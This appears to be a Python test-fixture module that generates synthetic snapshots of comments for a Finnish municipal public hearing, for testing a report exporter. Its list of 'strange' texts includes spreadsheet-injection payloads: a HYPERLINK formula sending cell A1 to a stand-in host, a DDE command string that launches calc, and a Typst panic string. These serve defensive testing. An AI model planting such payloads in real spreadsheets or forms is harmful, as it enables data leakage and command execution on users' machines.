"""Made-up snapshots: deterministic, of any size, with the strangest texts among them."""

import datetime as dt
import random
import uuid
from pathlib import Path
from typing import Any

from participation.reports.snapshot import ENGINE, SnapshotWriter

FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"palkinto")'
LONG = "Ylipitkä 😀 teksti. " * 2500
STRANGE = [
    FORMULA,
    "+358 ei ole kaava",
    "-1+1|cmd' /C calc'!A0",
    "@SUM(A1:A9)",
    "'heittomerkki alussa",
    "\tsarkain alussa",
    "https://example.invalid/" + "x" * 2100,
    LONG,
    "Emoji 😀👨\u200d👩\u200d👧 ja lippu 🇫🇮",
    "مرحبا بالعالم \u202eקצת עברית",
    "NUL \x00 ja surrogaatti \ud800 lopussa",
    "Pari \ud83d\ude00 kahdessa osassa",
    '#set text(size: 99pt)\n*lihava* $x^2$ @viite <nimi> #panic("typst")',
    "中文 ja \ue000 ja \ufeff",
    "_x0041_ ja <b>ei HTML</b> & muuta",
    "Rivi yksi\r\nrivi kaksi\r\rkappale",
]
MUNICIPALITIES = {
    "091": ("Helsinki", "Helsingfors", 643_272),
    "049": ("Espoo", "Esbo", 279_044),
    "638": ("Porvoo", "Borgå", 50_159),
    "018": ("Askola", "Askola", 4_990),
}
START = dt.datetime(2026, 10, 1, 6, 0, tzinfo=dt.UTC)
PARTS = [
    {
        "id": str(uuid.UUID(int=n)),
        "order": n,
        "title": {"fi": f"Osio {n}: lähipalvelut", "sv": f"Avsnitt {n}: närservice"},
    }
    for n in (1, 2, 3)
]


def header(**changes: Any) -> dict[str, Any]:
    participation = {
        "id": str(uuid.UUID(int=99)),
        "kind": "hearing",
        "title": {"fi": "Palvelulupaus: äänestä ääneen", "sv": "Servicelöftet: ge din röst"},
        "matter": {"fi": "Palvelulupauksen päivitys", "sv": "Uppdatering av servicelöftet"},
        "diary_number": "EHA/12/00.01/2026",
        "opens_at": "2026-10-01T06:00:00Z",
        "closes_at": "2026-10-31T14:00:00Z",
        "legal_basis": {
            "name": {"fi": "Laki hyvinvointialueesta", "sv": "Lagen om välfärdsområden"},
            "section": {"fi": "29 §", "sv": "29 §"},
            "link": {"fi": "https://example.invalid/laki", "sv": ""},
        },
        "unit": {"fi": "Osallisuusyksikkö", "sv": "Enheten för delaktighet"},
        "authority": {"fi": "Esimerkin hyvinvointialue", "sv": "Exempels välfärdsområde"},
        "deciding_body": {"fi": "Aluevaltuusto", "sv": "Välfärdsområdesfullmäktige"},
        "planned_meeting": "2027-02-11",
        "municipalities": ["018", "049", "091", "638"],
        "languages": ["fi", "sv"],
        "moderation_mode": "after_moderation",
    }
    population = [
        {"municipality": code, "language": "total", "persons": persons}
        for code, (_fi, _sv, persons) in MUNICIPALITIES.items()
    ]
    population += [{"municipality": "091", "language": "sv", "persons": 36_004}]
    population += [{"municipality": "018", "language": "sv", "persons": None}]
    return {
        "engine": ENGINE,
        "participation": participation,
        "municipalities": {code: {"fi": fi, "sv": sv} for code, (fi, sv, _n) in MUNICIPALITIES.items()},
        "population": {"year": 2017, "source": "Esimerkkirekisteri", "rows": population},
        "parts": PARTS,
        "reasons": {
            "insults": {"fi": "Loukkaava", "sv": "Kränkande"},
            "off_topic": {"fi": "Ei koske asiaa", "sv": "Gäller inte ärendet"},
        },
        "taken_at": "2026-11-01T08:15:30Z",
        "parameters": {"edition": "official"},
        "counts": {},
        "previous": None,
        **changes,
    }


def row(number: int, **changes: Any) -> dict[str, Any]:
    moment = (START + dt.timedelta(minutes=7 * number)).isoformat()
    return {
        "id": str(uuid.UUID(int=10_000 + number)),
        "parent_id": "",
        "part_id": PARTS[0]["id"],
        "language": "fi",
        "channel": "web",
        "created": moment,
        "received": moment,
        "late": False,
        "writer": number,
        "name": "",
        "organisation": "",
        "speaks_for": None,
        "municipality": "091",
        "age_class": "30_44",
        "role": "resident",
        "audience": "public",
        "state": "published",
        "reason": "",
        "redacted": False,
        "supports": 0,
        "text": f"Kommentti {number}: lähipalvelut ovat tärkeitä.",
        **changes,
    }


def rows(count: int, seed: int = 1) -> list[dict[str, Any]]:
    """Rows with every kind of background, replies, hidden ones and the strange texts first."""
    chance = random.Random(seed)
    made = []
    for n in range(count):
        state = (
            "published"
            if n < len(STRANGE)
            else chance.choices(["published", "pending", "hidden"], [94, 3, 3])[0]
        )
        text = (
            STRANGE[n]
            if n < len(STRANGE)
            else f"Kommentti {n}. " + "Palvelun pitää toimia. " * chance.randint(1, 25)
        )
        made.append(
            row(
                n,
                part_id=PARTS[n * 3 // count]["id"],
                parent_id=made[-1]["id"] if n % 7 == 3 else "",
                language=chance.choices(["fi", "sv", "other"], [80, 15, 5])[0],
                channel=chance.choices(["web", "paper", "desk"], [90, 8, 2])[0],
                writer=chance.choice([None, chance.randrange(count)]),
                name=chance.choice(["", "", "Nimimerkki"]),
                municipality=chance.choices(
                    [*MUNICIPALITIES, "other_finland", "not_said"], [60, 20, 8, 1, 3, 8]
                )[0],
                age_class=chance.choice(["15_17", "18_29", "30_44", "45_64", "65_74", "75_plus", "not_said"]),
                state=state,
                reason="insults" if state == "hidden" else "",
                text="" if state == "hidden" else text,
                supports=chance.randrange(9),
            )
        )
    return made


def write(path: Path, made: list[dict[str, Any]], **changes: Any) -> str:
    """Write a snapshot and return its hash."""
    with path.open("wb") as target:
        writer = SnapshotWriter(target, header(**changes))
        for one in made:
            writer.add(one)
        return writer.finish()
